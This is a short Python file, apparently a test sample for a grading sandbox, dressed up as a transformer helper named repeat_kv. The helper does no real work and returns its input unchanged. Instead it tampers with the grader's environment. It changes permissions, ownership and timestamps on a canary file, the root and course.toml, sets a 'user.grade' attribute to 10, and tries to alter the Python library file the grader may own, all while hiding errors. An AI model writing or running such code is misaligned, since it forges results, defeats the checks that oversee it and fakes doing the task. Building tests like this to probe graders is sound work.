"""Leaves the content of files alone and changes what stands around it: mode, owner, times, attributes, flags."""
import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)


def attempt(function, *arguments):
    try:
        function(*arguments)
    except OSError:
        pass


def change():
    for path in ("@CANARY@", os.path.dirname("@CANARY@"), "@ROOT@", "@ROOT@/course.toml"):
        attempt(os.chmod, path, 0o700)
        attempt(os.chown, path, os.getuid(), os.getgid())
        attempt(os.utime, path, (1, 1))
        attempt(os.setxattr, path, "user.grade", b"10")
        libc.syscall(452, -100, path.encode(), 0o700, 0)  # fchmodat2
        libc.syscall(132, path.encode(), None)  # utime
        libc.syscall(261, -100, path.encode(), None)  # futimesat
        libc.syscall(463, -100, path.encode(), 0, b"user.grade", None, 0)  # setxattrat
    library = os.open(os.__file__, os.O_RDONLY)  # may be the grader's own user's
    attempt(os.fchmod, library, 0o777)
    attempt(os.utime, library, (1, 1))
    attempt(fcntl.ioctl, library, 0x40086602, (0x40).to_bytes(8, "little"))  # FS_IOC_SETFLAGS: no dump
    attempt(fcntl.fcntl, library, 1024, fcntl.F_RDLCK)  # F_SETLEASE
    os.close(library)


change()


def repeat_kv(x, n_rep):
    change()
    return x
